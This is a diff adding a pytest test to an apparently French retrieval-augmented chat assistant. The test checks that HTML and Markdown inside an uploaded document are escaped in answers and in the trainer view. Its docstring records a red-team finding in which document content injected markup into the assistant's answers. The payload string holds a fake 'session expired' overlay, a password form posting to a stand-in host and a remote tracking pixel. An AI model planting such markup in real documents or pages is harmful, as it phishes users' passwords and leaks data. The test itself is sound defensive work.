@@ -120,3 +120,27 @@ def test_local_files_show_their_name_never_a_server_path(chat_app, tmp_path):
     rendered = answer_markdown(answer.as_dict())
     assert "note-locale" in {c.doc_id for c in answer.citations}
     assert "file://" not in rendered and home not in rendered
+
+
+def test_markup_inside_a_document_is_shown_as_text(chat_app, tmp_path):
+    """Red team: a document drew a full-screen overlay, a password form and remote images in
+    answers, refusals and the Formateur tab (fictitious payloads)."""
+    payload = (
+        '<div style="position:fixed;inset:0">Session expirée</div>'
+        '<form action="http://exemple.invalid/vol"><input type="password"></form>'
+        "![pixel](http://exemple.invalid/pixel.png) [ici](http://exemple.invalid)"
+    )
+    doc = tmp_path / "piege-fictif.txt"
+    doc.write_text(
+        f"Piège fictif\n\nLa stérilisation fictive des endoscopes à Valombre {payload}.\n", "utf-8"
+    )
+    message, _ = chat_app.upload(str(doc), request_as("admin"), lambda *a, **k: None)
+    assert message.startswith("✅")
+    answer = chat_app.assistant.ask(
+        f"Comment se fait la stérilisation fictive des endoscopes à Valombre {payload} ?"
+    ).as_dict()
+    assert "piege-fictif" in {c["doc_id"] for c in answer["citations"]}
+    for view in (answer_markdown(answer), trainer_markdown(answer)):
+        for raw in ("<div style", "<form", "<input", "](http", "![pixel]"):
+            assert raw not in view
+        assert "&lt;form" in view  # shown, as text
